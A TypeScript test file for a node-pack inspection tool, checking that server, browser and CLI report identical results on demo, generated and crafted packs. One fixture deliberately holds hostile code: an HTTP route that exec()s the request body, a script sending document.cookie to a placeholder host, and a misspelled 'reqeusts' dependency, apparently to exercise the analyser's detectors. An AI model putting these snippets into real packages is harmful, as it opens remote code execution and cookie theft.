import assert from 'node:assert/strict'
import { once } from 'node:events'
import { globSync, readFileSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import { createRequire } from 'node:module'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { pino } from 'pino'
import type { Browser, Page } from 'playwright-core'
import { rolldown } from 'rolldown'
import { buildZip } from '../analysis/src/archive/zip-builder.test-support.ts'
import { Chance } from '../bench/data/chance.ts'
import { run } from '../cli/src/run.ts'
import { launchChromium } from '../scripts/chromium.ts'
import { makePack } from '../scripts/fuzz/python.ts'
import { analystPool } from '../server/src/packs/publishing/analyst-pool.ts'

const demo = join(import.meta.dirname, '../server/demo/packs')
const seeds = [3, 14, 15, 92, 65, 35]
const analyst = analystPool({ workers: 1, log: pino({ level: 'silent' }) })

let folder: string
let browser: Browser
let page: Page
let site: Server

before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'nodeyard-same-'))
  browser = await launchChromium()
  site = await serve(await bundle())
  page = await browser.newPage()
  await page.goto(`http://127.0.0.1:${(site.address() as AddressInfo).port}/`)
  const { resolve } = createRequire(join(import.meta.dirname, '../analysis/package.json'))
  const wasm = ['web-tree-sitter/web-tree-sitter.wasm', 'tree-sitter-python/tree-sitter-python.wasm']
  const files = wasm.map((name) => readFileSync(resolve(name)).toString('base64'))
  await inBrowser('load', ...files)
})

after(async () => {
  await analyst.stop()
  site?.close()
  await browser?.close()
  await rm(folder, { recursive: true, force: true })
})

/** Bundles the analysis for a browser, with the two functions that this test calls. */
async function bundle(): Promise<string> {
  const entry = join(import.meta.dirname, 'inspect-in-browser.ts')
  const outside = ['module', 'fs/promises']
  const built = await rolldown({ input: entry, platform: 'browser', external: outside, logLevel: 'silent' })
  const { output } = await built.generate({ format: 'es' })
  await built.close()
  return output[0].code
}

async function serve(script: string): Promise<Server> {
  const server = createServer((request, response) => {
    const isScript = request.url === '/analysis.js'
    response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html')
    response.end(isScript ? script : '<!doctype html>')
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return server
}

/** Calls one of the two functions in the page. */
function inBrowser(name: 'load' | 'inspect', ...args: string[]): Promise<string> {
  return page.evaluate(
    async ({ name, args }) => {
      const analysis = await import(/* @vite-ignore */ String('/analysis.js'))
      return analysis[name](...args)
    },
    { name, args },
  )
}

async function assertSame(name: string, files: Record<string, string | Uint8Array>): Promise<void> {
  const zip = buildZip({ entries: Object.entries(files).map(([path, data]) => ({ name: path, data })) })
  const path = join(folder, `${name}.zip`)
  await writeFile(path, zip)
  const command = await checked(path)
  const { inspection } = (await analyst.read(path)).pack
  assert.equal(JSON.stringify(inspection, null, 2), command, 'the server says what the command says')
  const shown = await inBrowser('inspect', Buffer.from(zip).toString('base64'))
  assert.equal(shown, command, 'the browser says what the command says')
}

/** Returns the inspection that the command-line program prints. */
async function checked(path: string): Promise<string> {
  let text = ''
  const stdout = {
    write(piece: string) {
      text += piece
    },
  }
  const { signal } = new AbortController()
  await run({ args: ['check', path, '--json'], env: {}, folder, stdout, stderr: stdout, signal })
  return JSON.stringify(JSON.parse(text).inspection, null, 2)
}

describe('the inspection of a pack', () => {
  for (const pack of globSync('*', { cwd: demo }).sort().slice(0, 6)) {
    it(`is the same in server, browser and command for the demo pack ${pack}`, async () => {
      const paths = globSync('**/*.*', { cwd: join(demo, pack) })
      await assertSame(
        pack,
        Object.fromEntries(paths.map((path) => [path, readFileSync(join(demo, pack, path))])),
      )
    })
  }

  for (const seed of seeds) {
    it(`is the same for a generated pack (${seed})`, async () => {
      await assertSame(`odd-${seed}`, makePack(new Chance(seed)))
    })
  }

  it('is the same for texts in many scripts', async () => {
    await assertSame('scripts', {
      '__init__.py': `class Ünïcode:
    """İstanbul ß ﬃ"""
    CATEGORY = "图像/ぼかし".upper() + "straße".title() + "İI".lower()
    RETURN_TYPES = ("IMAGE",)
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"größe": ("FLOAT", {"default": 1e-7, "max": 1e22, "step": 0.1 + 0.2})}}
NODE_CLASS_MAPPINGS = {"🎨 Ünïcode": Ünïcode}
`,
      'locales/ar/nodeDefs.json': '{"🎨 Ünïcode": {"display_name": "اسم"}}',
    })
  })

  it('is the same for a pack with every feature', async () => {
    await assertSame('everything', {
      'pyproject.toml':
        '[project]\nname = "everything"\nversion = "1.0.0"\ndependencies = ["numpy", "reqeusts"]\n[tool.comfy]\nweb = "more"\n',
      'README.md': '# Everything\n',
      '__init__.py': `"""All of it."""
import os, subprocess, requests
from inspect import cleandoc
from server import PromptServer
from .schema import comfy_entrypoint
WEB_DIRECTORY = "./web"
class Blur:
    """Blurs.

    Softly."""
    DESCRIPTION = cleandoc(__doc__)
    RETURN_TYPES = ("IMAGE",)
    FUNCTION = "run"
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"radius": ("INT", {"default": 3, "tooltip": "\\ud800 \\x00"}), "model": (os.listdir("/models"),)}}
    def run(self, radius):
        subprocess.run(["ffmpeg", "-version"])
        with open(os.path.expanduser("~/out.txt"), "w") as out:
            out.write(requests.get("https://a.example.test/x").text + os.environ["HOME_OF_ALL"])
@PromptServer.instance.routes.get("/everything")
async def everything(request): exec(await request.text())
NODE_CLASS_MAPPINGS = {"acme.Blur": Blur}
`,
      'schema.py': `from comfy_api.latest import io, ComfyExtension
class Sharpen(io.ComfyNode):
    @classmethod
    def define_schema(cls):
        return io.Schema(node_id="Sharpen", inputs=[io.Image.Input("image")], outputs=[io.Image.Output()])
class Extension(ComfyExtension):
    async def get_node_list(self): return [Sharpen]
async def comfy_entrypoint(): return Extension()
`,
      'locales/fr/nodeDefs.json': '{"acme_Blur": {"display_name": "Flou", "outputs": {"0": {"name": "x"}}}}',
      'locales/zh-TW/main.json': '{"nodeDefs": {"acme_Blur": {"description": "\\u8aaa\\u660e \\ud800"}}}',
      'web/main.js': 'fetch("https://b.example.test/?c=" + document.cookie)',
      'web/docs/acme.Blur.md': '# Blur',
      'more/docs/acme.Blur/ja.md': '# ぼかし',
      'lib/x.so': Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0),
      'node_list.json': '["Listed"]',
    })
  })
})
